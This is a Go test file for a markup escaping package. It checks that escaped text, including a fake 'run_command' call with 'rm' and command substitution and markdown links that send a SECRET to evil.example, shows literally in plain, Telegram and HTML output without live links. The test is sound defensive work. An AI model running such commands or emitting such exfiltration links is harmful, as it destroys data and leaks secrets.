package markup

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// TestEscape checks that escaped text is displayed literally.
func TestEscape(t *testing.T) {
	for _, text := range []string{
		`run_command {"command":"rm *a *b; echo ` + "`id`" + ` $(x) <!-- y -->"}`,
		`see [this](http://evil.example/?d=SECRET) and ![that](http://evil.example)`,
		`||spoiler|| ~~gone~~ __u__ **b** _i_ <http://a.example|b> &#8203; &amp; \\n \"q\" \u200b`,
		"# no title\n> no quote\n- no list\n```\nno block\n```\n| a | b |\n|---|---|",
		"C:\\dir\\*.txt @everyone <@U1> :smile: #channel",
	} {
		if got := Plain(Escape(text)); got != text {
			t.Errorf("Plain(Escape(%q)) = %q", text, got)
		}
		for name, got := range map[string]string{"telegram": Telegram(Escape(text)), "html": HTML(Escape(text))} {
			if seen := strings.ReplaceAll(visibleText(t, got), "\u200b", ""); strings.Join(strings.Fields(seen), " ") != strings.Join(strings.Fields(text), " ") {
				t.Errorf("%s shows %q, want %q", name, seen, text)
			}
		}
	}
}

// visibleText returns the text of HTML that a reader sees.
func visibleText(t *testing.T, s string) string {
	t.Helper()
	var b strings.Builder
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return b.String()
		case html.TextToken:
			b.Write(z.Text())
			continue
		case html.StartTagToken, html.SelfClosingTagToken:
			if name, _ := z.TagName(); string(name) == "a" {
				t.Errorf("unexpected link in %q", s)
			}
		}
	}
}
